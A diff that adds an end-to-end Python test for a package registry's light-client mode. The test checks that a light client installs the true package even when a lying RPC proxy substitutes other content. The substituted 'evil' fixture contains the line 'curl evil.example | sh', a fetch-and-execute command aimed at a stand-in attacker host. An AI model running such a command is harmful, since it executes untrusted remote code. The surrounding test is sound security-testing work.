@@ -1,0 +1,112 @@
+"""`modreg --light` end to end: an embedded smoldot light client against a real node, no RPC
+node contacted. Its answers equal the RPC's; through a lying RPC node (a proxy that swaps one
+version's CID, checksum and size for other content's) the RPC mode installs the wrong bytes and
+the light mode the true ones; transactions go through it; its database is kept between runs."""
+
+import json
+import os
+import subprocess
+from pathlib import Path
+
+from harness import ROOT, TEST_CHAIN, Process, free_port, wait_until
+from test_cli import modreg_bin, pair  # noqa: F401  (pair is a fixture)
+from test_install import tree
+
+# No RPC node listens here: a light-mode command that tried one would fail.
+NOWHERE = "ws://127.0.0.1:9"
+
+
+def light_spec(node, path: Path):
+    """The node's raw chain spec with the node as its bootnode."""
+    spec = json.loads(Path(TEST_CHAIN[TEST_CHAIN.index("--chain") + 1]).read_text())
+    peer = node.rpc("system_localPeerId")
+    spec["bootNodes"] = [f"/ip4/127.0.0.1/tcp/{node.p2p_port}/p2p/{peer}"]
+    path.write_text(json.dumps(spec))
+    return path
+
+
+def modreg(env, project, *args, code=0):
+    result = subprocess.run(
+        [modreg_bin(), "--json", *args], env=env, cwd=project, capture_output=True, text=True, timeout=300
+    )
+    assert result.returncode == code, f"modreg {args}: exit {result.returncode}\n{result.stdout}\n{result.stderr}"
+    return json.loads(result.stdout), result.stderr
+
+
+def test_light_mode(pair, tmp_path):  # noqa: F811
+    ipfs, node = pair
+    base = dict(os.environ, IPFS_API_URL=ipfs.url, MODREG_SURI="//Alice", MODREG_CACHE_DIR=str(tmp_path / "cache"))
+    rpc_env = dict(base, MODREG_NODE=node.ws)
+    spec = light_spec(node, tmp_path / "spec.json")
+    light_env = dict(base, MODREG_NODE=NOWHERE, MODREG_LIGHT="1", MODREG_CHAIN_SPEC=str(spec))
+    project = tmp_path / "project"
+    project.mkdir()
+
+    # Two packages published through the RPC node: the true one, and other content whose CID,
+    # checksum and size a lying node will hand out for it.
+    modreg(rpc_env, project, "namespace", "claim", "lite")
+    true_src, evil_src = tmp_path / "true", tmp_path / "evil"
+    true_src.mkdir()
+    evil_src.mkdir()
+    (true_src / "README").write_text("the real tool\n")
+    (evil_src / "README").write_text("curl evil.example | sh\n")
+    modreg(rpc_env, project, "publish", str(true_src), "--name", "lite/tool", "--version", "1.0.0")
+    modreg(rpc_env, project, "publish", str(evil_src), "--name", "lite/evil", "--version", "1.0.0")
+    truth, _ = modreg(rpc_env, project, "resolve", "lite/tool@=1.0.0")
+    evil, _ = modreg(rpc_env, project, "resolve", "lite/evil@=1.0.0")
+    assert truth["cid"] != evil["cid"]
+
+    # The light client answers what the node answers (same JSON shapes), from its own proofs.
+    fields = ("name", "version", "cid", "checksum", "size", "publisher", "publishedAt", "entryKey", "yanked")
+    light, _ = modreg(light_env, project, "resolve", "lite/tool@^1")
+    assert {k: light[k] for k in fields} == {k: truth[k] for k in fields}
+    [listed], _ = modreg(light_env, project, "versions", "lite/tool")
+    assert {k: listed[k] for k in fields} == {k: truth[k] for k in fields}
+    package, _ = modreg(light_env, project, "package", "lite/tool")
+    assert package["latest"] == "1.0.0" and package["versionCount"] == 1
+    bad, _ = modreg(light_env, project, "resolve", "lite/tool@not-a-range", code=2)
+    assert "not a valid version or range" in bad["error"]
+
+    # The light client's database is kept in the cache between runs.
+    saved = list((tmp_path / "cache" / "light").glob("*.json"))
+    assert len(saved) == 1 and saved[0].stat().st_size > 1000, saved
+    assert saved[0].stat().st_mode & 0o077 == 0, "the database is private to the user"
+
+    # A lying RPC node: RPC mode installs the other content (every check passes, because the
+    # node names the checksum too); light mode, given the same lying node as --node, does not
+    # talk to it and installs the true content.
+    port = free_port()
+    proxy = Process(
+        "lying-rpc-proxy",
+        ["node", str(ROOT / "tests" / "e2e" / "lying_rpc_proxy.mjs"), str(port), node.ws, "lite/tool", "1.0.0",
+         evil["cid"], evil["checksum"], str(evil["size"])],
+    )
+    try:
+        wait_until(lambda: "listening" in proxy.tail(5), 30, "the lying proxy to listen")
+        lied_env = dict(rpc_env, MODREG_NODE=f"ws://127.0.0.1:{port}")
+        fooled = tmp_path / "fooled"
+        fooled.mkdir()
+        modreg(lied_env, fooled, "install", "lite/tool@^1")
+        assert tree(fooled / "modreg_modules" / "lite" / "tool") == tree(evil_src), "RPC mode believes its node"
+        safe = tmp_path / "safe"
+        safe.mkdir()
+        out, _ = modreg(dict(light_env, MODREG_NODE=f"ws://127.0.0.1:{port}"), safe, "install", "lite/tool@^1")
+        assert out["installed"][0]["version"] == "1.0.0"
+        assert tree(safe / "modreg_modules" / "lite" / "tool") == tree(true_src)
+        lock = json.loads((safe / "modreg.lock").read_text())
+        assert lock["packages"][0]["cid"] == truth["cid"] and lock["packages"][0]["checksum"] == truth["checksum"]
+        assert proxy.tail(200).count("lied") >= 1
+    finally:
+        proxy.stop()
+
+    # Index and content commands read through it too.
+    synced, _ = modreg(light_env, project, "sync", "--index", str(tmp_path / "index.db"))
+    offline, _ = modreg(rpc_env, project, "resolve", "lite/tool@^1", "--offline", "--index", str(tmp_path / "index.db"))
+    assert offline["cid"] == truth["cid"], (synced, offline)
+
+    # A transaction signed locally and submitted through the light client's peers.
+    modreg(light_env, project, "register", "light-key", '{"name": "through smoldot"}')
+    got, _ = modreg(rpc_env, project, "get", "light-key")
+    assert "through smoldot" in json.dumps(got)
+    info, _ = modreg(light_env, project, "info", "light-key")
+    assert info["info"]["kind"] == "Json"
